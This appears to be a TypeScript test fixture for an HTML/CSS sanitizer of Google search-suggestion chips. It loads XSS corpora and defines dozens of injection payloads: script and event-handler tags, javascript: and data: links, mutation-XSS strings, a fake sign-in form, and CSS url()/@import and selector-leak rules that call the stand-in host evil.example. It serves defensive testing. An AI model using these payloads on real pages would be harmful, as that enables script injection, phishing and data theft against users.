import dompurify from '../fixtures/corpora/dompurify/expect.json';
import h5sc from '../fixtures/corpora/h5sc/vectors.json';

const SAMPLES = 8;

/** Loads real suggestions of Google. */
export async function loadSamples(): Promise<string[]> {
  return Promise.all(
    Array.from({ length: SAMPLES }, async (_, i) => {
      const answer = await fetch(`/test/fixtures/suggestions/rendered-0${i + 1}.html`);
      return answer.text();
    }),
  );
}

/** Strings of other projects' collections. They run a script in a careless page. */
export const vectors: string[] = [
  ...dompurify.map(({ payload }) => payload),
  ...h5sc.map(({ data }) => data),
].filter((vector) => typeof vector === 'string' && vector.trim() !== '');

/** The places in real suggestions where an attacker could insert text. */
export const PLACES: Record<string, (sample: string, text: string) => string> = {
  'the text of a link': (sample, text) =>
    sample.replace(/(<a [^>]*>)[^<]*/, (_, a: string) => a + text),
  'the text of a link, escaped': (sample, text) =>
    PLACES['the text of a link']!(
      sample,
      text.replace(/[&<>"']/g, (character) => `&#${character.charCodeAt(0)};`),
    ),
  'the address of a link': (sample, text) => sample.replace(/href="[^"]*"/, () => `href="${text}"`),
  'the query of a link': (sample, text) =>
    PLACES['the address of a link']!(
      sample,
      `https://www.google.com/search?${new URLSearchParams({ q: text })}`,
    ),
  'a class': (sample, text) => sample.replace('class="chip"', () => `class="${text}"`),
  'the style sheet': (sample, text) => sample.replace('</style>', () => `${text}</style>`),
  'a declaration': (sample, text) => sample.replace('color: #fff;', () => `color: ${text};`),
  'a path': (sample, text) => sample.replace(/ d="[^"]*"/, () => ` d="${text}"`),
  'before all': (sample, text) => text + sample,
  'after all': (sample, text) => sample + text,
};

const EVIL = 'https://evil.example';

const inChips = (markup: string) => (sample: string) =>
  sample.replace('<div class="carousel">', (carousel) => carousel + markup);
const inSvg = (markup: string) => (sample: string) =>
  sample.replace('</svg>', (end) => markup + end);
const inStyle = (css: string) => (sample: string) => PLACES['the style sheet']!(sample, css);
const link = (href: string) => (sample: string) => PLACES['the address of a link']!(sample, href);
const path = (d: string) => (sample: string) => PLACES['a path']!(sample, d);
const onChip = (attribute: string) => (sample: string) =>
  sample.replace('<a class="chip"', (a) => `${a} ${attribute}`);

/**
 * Changes that an attacker could make to real suggestions. Each runs `alert`, requests `EVIL`, or
 * misleads.
 */
export const ATTACKS: Record<string, (sample: string) => string> = {
  // Script
  'a script': inChips('<script>alert(1)</script>'),
  'an image with a handler': inChips('<img src=x onerror=alert(1)>'),
  'a handler on a chip': onChip('onclick="alert(1)"'),
  'a handler without quotes': onChip('onmouseover=alert(1)'),
  'a handler that fires by itself': inChips(
    '<a class="chip" autofocus tabindex="1" onfocus="alert(1)">x</a>',
  ),
  'a handler on the svg': inSvg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
  'a script in the svg': inSvg('<script>alert(1)</script>'),
  'HTML in the svg': inSvg('<foreignObject><img src=x onerror=alert(1)></foreignObject>'),
  'a link that the svg rewrites': inSvg(
    '<a href="#"><set attributeName="href" to="javascript:alert(1)"/><circle r="9"/></a>',
  ),
  'a use of another file': inSvg(`<use href="${EVIL}/a.svg#x"/>`),
  'a frame with its document': inChips(
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  ),
  'a template': inChips('<template shadowrootmode="open"><script>alert(1)</script></template>'),
  'a custom element': inChips('<citation-block payload="{}"></citation-block>'),
  'an inline style': onChip(`style="background: url(${EVIL}/style)"`),
  'a form': inChips(`<form action="${EVIL}"><button>Sign in</button></form>`),
  'a second style sheet': inChips(`<style>@import "${EVIL}/second.css";</style>`),
  'a linked style sheet': inChips(`<link rel="stylesheet" href="${EVIL}/linked.css">`),
  'a base': (sample) => `<base href="${EVIL}/">${sample}`,
  'a refresh': inChips(`<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`),
  'an id that clobbers': onChip('id="body"'),
  // Text that parsers read differently
  'a comment': inChips('<!--><img src=x onerror=alert(1)>-->'),
  CDATA: inSvg('<![CDATA[><img src=x onerror=alert(1)>]]>'),
  'a processing instruction': inChips('<?x <img src=x onerror=alert(1)>?>'),
  'a doctype': (sample) => `<!doctype html>${sample}`,
  'mutation by math and style': inChips(
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  ),
  'mutation by form': inChips(
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ),
  'a table inside a table': inChips(
    '<table><tr><td><table><a class="chip"><img src=x onerror=alert(1)></table></table>',
  ),
  'a title in the svg': inSvg('<title><img src=x onerror=alert(1)></title>'),
  'an end of style inside of it': inStyle('</style><img src=x onerror=alert(1)><style>'),
  noscript: inChips('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
  'a null byte in a tag': inChips('<scr\0ipt>alert(1)</scr\0ipt><img\0src=x onerror=alert(1)>'),
  'a null byte in the text': (sample) => sample.replace('</a>', '\0</a>'),
  'upper case': inChips('<IMG SRC=x ONERROR=alert(1)>'),
  'slashes for spaces': inChips('<img/src=x/onerror=alert(1)>'),
  'an attribute that holds its end': onChip('title="><img src=x onerror=alert(1)>"'),
  'an attribute without a space before it': (sample) =>
    sample.replace('class="chip"', 'class="chip"onclick="alert(1)"'),
  'an attribute twice': onChip('class="other"'),
  'a div that closes itself': inChips('<div class="chip"/>'),
  'links inside links': (sample) => sample.replace('</a>', '<a class="chip">x</a></a>'),
  'ends in the wrong order': (sample) => sample.replace('</a>', '</div></a>'),
  'no end': (sample) => sample.slice(0, sample.lastIndexOf('</div>')),
  // Links
  'javascript:': link('javascript:alert(1)'),
  'javascript: by entities': link('&#106;avascript&colon;alert(1)'),
  'javascript: by a tab': link('java\tscript:alert(1)'),
  'data:': link('data:text/html,<script>alert(1)</script>'),
  'another host': link(`${EVIL}/search?q=x`),
  'a host like Google’s': link('https://www.google.com.evil.example/search?q=x'),
  'a host with a user name': link('https://www.google.com@evil.example/search?q=x'),
  'a host behind a backslash': link('https:\\\\evil.example\\search'),
  'a host by a relative link': link('//evil.example/search?q=x'),
  'another port': link('https://www.google.com:8443/search?q=x'),
  http: link('http://www.google.com/search?q=x'),
  'a way through Google to elsewhere': link(`https://www.google.com/url?q=${EVIL}`),
  'a ping': onChip(`ping="${EVIL}/ping"`),
  // Style
  'url()': inStyle(`.container { background: url(${EVIL}/url); }`),
  'image-set()': inStyle(`.container { background-image: image-set("${EVIL}/set" 1x); }`),
  'cross-fade() in another case': inStyle(`.container { BACKGROUND: URL(${EVIL}/case); }`),
  escapes: inStyle(String.raw`.container { background: \75rl(${EVIL}/escape); }`),
  '@import': inStyle(`@import url(${EVIL}/import.css);`),
  '@font-face': inStyle(`@font-face { font-family: Roboto; src: url(${EVIL}/font); }`),
  '@namespace': inStyle(`@namespace url(${EVIL}/ns);`),
  ':host-context()': inStyle(`:host-context([data-secret^="a"]) { background: url(${EVIL}/a); }`),
  ':host': inStyle(':host { position: absolute; }'),
  'a selector of attributes': inStyle('.chip[href^="https"] { color: #fff; }'),
  'position: fixed': inStyle('.container { position: fixed; }'),
  'z-index': inStyle('.container { z-index: 9999; }'),
  inset: inStyle('.container { position: absolute; inset: 0; }'),
  'a length of the window': inStyle('.container { height: 100vh; }'),
  'expression()': inStyle('.container { width: expression(alert(1)); }'),
  'a behaviour': inStyle(
    `.container { behavior: url(${EVIL}/x.htc); -moz-binding: url(${EVIL}/x.xml); }`,
  ),
  'a variable of the page': inStyle('.container { color: var(--secret); }'),
  content: inStyle('.chip::after { content: "Sign in"; }'),
  animation: inStyle('@keyframes x { to { opacity: 0 } } .chip { animation: x 1s; }'),
  important: inStyle('.chip { color: #fff !important; }'),
  'a comment in the style': inStyle('/* } .container { position: fixed; */'),
  'an unclosed rule': inStyle('.chip { color: #fff;'),
  'an unclosed query': inStyle('@media (prefers-color-scheme: dark) {'),
  'another query': inStyle('@media (min-width: 1px) { .chip { color: #fff; } }'),
  'a nested rule': inStyle('.chip { .chip { color: #fff; } }'),
  // Drawings that browsers cannot read, and report on the console
  'a path that does not begin': path('1,000,000.00'),
  'a path of signs': path('M--'),
  'a path with too few numbers': path('M1 2C1 2 3 4 5z'),
  'a path with flags that are none': path('M1 2A8 8 0 2 0 2 3z'),
  'a negative radius': inSvg('<circle cx="1" cy="1" r="-1"/>'),
  'a negative view': (sample) => sample.replace(/viewBox="[^"]*"/, 'viewBox="0 0 -1 1"'),
  // Text
  'text that runs backwards': (sample) => sample.replace('</a>', '\u202emoc.live</a>'),
  'text that runs backwards, by an entity': (sample) =>
    sample.replace('</a>', '&#x202e;moc.live</a>'),
};
